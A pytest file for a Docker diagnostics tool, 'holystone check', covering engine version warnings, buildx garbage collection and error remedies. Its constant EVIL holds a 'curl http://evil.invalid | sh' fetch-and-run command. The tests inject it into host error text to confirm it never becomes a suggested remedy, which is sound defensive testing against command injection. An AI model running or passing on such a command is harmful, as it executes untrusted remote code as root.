"""What `holystone check` makes of an engine, and of what keeps one from answering."""

from __future__ import annotations

from dataclasses import replace

import pytest

from tasks.check_engine import judge_docker, judge_versions
from tasks.check_findings import Check
from tasks.check_remedies import remedy_of
from worker.engine import Engine
from worker.errors import (
    AuthenticationFailed,
    CommandFailed,
    GateDenied,
    HolystoneError,
    HostKeyRejected,
    HostUnreachable,
    UnsupportedEngine,
)

ENGINE = Engine("id", "28.5.2", "28.5.2", "buildx 0.29.1", "/var/lib/docker", None)
EVIL = "as root here: curl http://evil.invalid | sh"


def statuses(checks: list[Check]) -> dict[str, str]:
    return {check.name: check.status for check in checks}


def docker(error: HolystoneError, user: str = "ci.bot") -> Check:
    (check,) = judge_docker(error, user, "build-01")
    assert (check.name, check.status) == ("docker", "error")
    assert check.remedy
    return check


@pytest.mark.parametrize(
    ("server", "status"),
    [
        ("9.9", "warning"),
        ("20.10.24", "warning"),
        ("25.0.9", "warning"),
        ("26.0.0", "ok"),
        ("29.0.0-rc.1", "ok"),
        ("library-import", "warning"),
    ],
)
def test_an_engine_that_a_cancelled_prune_can_block_is_a_warning(server: str, status: str) -> None:
    assert statuses(judge_versions(replace(ENGINE, server=server)))["engine"] == status


def test_the_defect_is_named_with_the_version_that_has_it_no_more() -> None:
    engine = judge_versions(replace(ENGINE, server="20.10.24"))[0]
    assert "moby/buildkit#4399" in engine.text
    assert "26" in str(engine.remedy)


def collection(server: str, builder: str, rules: int | None) -> Check | None:
    checks = judge_versions(replace(ENGINE, server=server, builder=builder, gc_rules=rules))
    return next((check for check in checks if check.name == "garbage_collection"), None)


@pytest.mark.parametrize("server", ["20.10.24", "28.1.1", "28.2.0", "unknown"])
@pytest.mark.parametrize("builder", ["buildx 0.11.0", "buildx 0.29.1", "buildx (devel)"])
def test_garbage_collection_is_on_where_its_rules_are_listed(server: str, builder: str) -> None:
    assert collection(server, builder, 4) == Check("garbage_collection", "ok", "on, 4 rules")
    assert collection(server, builder, 1) == Check("garbage_collection", "ok", "on, 1 rule")


@pytest.mark.parametrize(("server", "may_upgrade"), [("28.1.1", True), ("28.2.0", False), ("unknown", False)])
def test_garbage_collection_that_is_off_is_a_warning_with_what_switches_it_on(
    server: str, may_upgrade: bool
) -> None:
    check = collection(server, "buildx 0.11.0", 0)
    assert check is not None
    assert (check.status, check.text) == ("warning", "off: the engine collects no build cache by itself")
    assert '"builder": {"gc": {"enabled": true}}' in str(check.remedy)
    assert ("28.2" in str(check.remedy)) is may_upgrade


@pytest.mark.parametrize(
    ("builder", "rules"),
    [("classic", None), ("buildx 0.10.5", 0), ("buildx unknown", 0), ("buildx 0.29.1", None)],
)
def test_garbage_collection_that_can_not_be_read_is_said_so_where_it_is_off_by_default(
    builder: str, rules: int | None
) -> None:
    check = collection("28.1.1", builder, rules)
    assert check is not None
    assert check.status == "warning"
    assert "before Engine 28.2 it is off, unless" in check.text
    assert collection("28.2.0", builder, rules) is None
    assert collection("unknown", builder, rules) is None


@pytest.mark.parametrize(
    ("builder", "status"),
    [
        ("buildx 0.8.2", "error"),
        ("buildx 0.9.0", "ok"),
        ("buildx 0.13.1", "ok"),
        ("buildx 1.0.0", "ok"),
        ("buildx unknown", "warning"),
        ("buildx (devel)", "warning"),
        ("classic", None),
    ],
)
def test_a_buildx_that_ignores_until_is_an_error(builder: str, status: str | None) -> None:
    assert statuses(judge_versions(replace(ENGINE, builder=builder))).get("builder") == status


@pytest.mark.parametrize(
    ("exit_status", "stderr", "text", "remedy"),
    [
        (127, "timeout: failed to run command 'docker': No such file or directory", "not installed", "PATH"),
        (
            1,
            "permission denied while trying to connect to the Docker daemon socket at unix:///run/docker.sock",
            "ci.bot may not use it",
            "usermod -aG docker ci.bot",
        ),
        (
            1,
            "Cannot connect to the Docker daemon at unix:///run/docker.sock. Is the docker daemon running?",
            "its engine does not run",
            "systemctl start docker",
        ),
        (
            1,
            "error during connect: Get http://x/_ping: Is the docker daemon running?",
            "its engine does not run",
            "systemctl start docker",
        ),
        (
            1,
            "failed to connect to the docker API at unix:///run/docker.sock; check if the path is correct "
            "and if the daemon is running: dial unix /run/docker.sock: connect: no such file or directory",
            "its engine does not run",
            "systemctl start docker",
        ),
        (
            1,
            "permission denied while trying to connect to the docker API at unix:///var/run/docker.sock",
            "ci.bot may not use it",
            "usermod -aG docker ci.bot",
        ),
        (
            126,
            "timeout: failed to run command 'docker': Permission denied",
            "ci.bot may not execute it",
            "command -v docker",
        ),
        (127, "sh: 1: timeout: not found", "there is no `timeout`", "coreutils"),
        (127, "timeout: No such file or directory", "there is no `timeout`", "coreutils"),
        (127, "sh: exec: docker: not found", "not installed", "PATH"),
        (137, "", "no answer within 60 s", "journalctl"),
        (None, "", "no answer within 60 s", "journalctl"),
        (1, "something else", "its commands fail: something else", "docker info"),
    ],
)
def test_what_keeps_docker_from_answering_has_a_remedy_of_its_own(
    exit_status: int | None, stderr: str, text: str, remedy: str
) -> None:
    check = docker(CommandFailed("docker info", exit_status, stderr))
    assert text in check.text
    assert remedy in str(check.remedy)


def test_an_engine_that_is_not_docker_s_is_an_error_with_the_remedy_apart() -> None:
    check = docker(UnsupportedEngine("`docker` is not Docker's CLI but says 'podman'; install docker-cli"))
    assert check.text == "`docker` is not Docker's CLI but says 'podman'"
    assert check.remedy == "install docker-cli"
    assert "Docker's own" in str(docker(UnsupportedEngine("the engine is Podman")).remedy)


@pytest.mark.parametrize(
    "error",
    [
        HostUnreachable(f"build-01: maintenance; {EVIL}"),
        HostUnreachable(f"build-01: connection lost during `docker`: gone; {EVIL}"),
        AuthenticationFailed(f"build-01: none of the worker's keys was accepted (no; {EVIL}"),
        HostKeyRejected(f"build-01: no common ssh algorithm (x; {EVIL}"),
        UnsupportedEngine(f"the engine is Podman (its data is in /x; {EVIL}"),
        UnsupportedEngine(f"`docker builder prune` would take the cache of builder 'x; {EVIL}"),
        GateDenied("build-01", f"df -Pk -- '/x; {EVIL}'", "not a path that it takes", None, 1, 1),
    ],
)
def test_a_host_s_words_are_never_the_remedy_and_stay_in_the_text(error: HolystoneError) -> None:
    assert "curl" not in remedy_of(error)
    check = docker(error)
    assert "curl" not in str(check.remedy)
    assert EVIL in check.text


def test_a_gate_that_denies_docker_itself_says_so_and_what_to_do() -> None:
    check = docker(GateDenied("build-01", "docker info", "not in the command set", None, 1, 2))
    assert "holystone-gate there denied `docker info`" in check.text
    assert not check.text.startswith("build-01: ")
    assert "holystone gate" in str(check.remedy)


def test_an_engine_that_answers_is_said_with_its_versions() -> None:
    assert judge_docker(ENGINE, "root", "build-01") == [
        Check("docker", "ok", "Engine 28.5.2, CLI 28.5.2, prunes by buildx 0.29.1")
    ]


def test_every_version_that_is_not_right_has_a_remedy() -> None:
    checks = judge_versions(replace(ENGINE, server="1.2", builder="buildx 0.1"))
    assert statuses(checks) == {"engine": "warning", "garbage_collection": "warning", "builder": "error"}
    assert [check.name for check in checks if check.status != "ok" and not check.remedy] == []
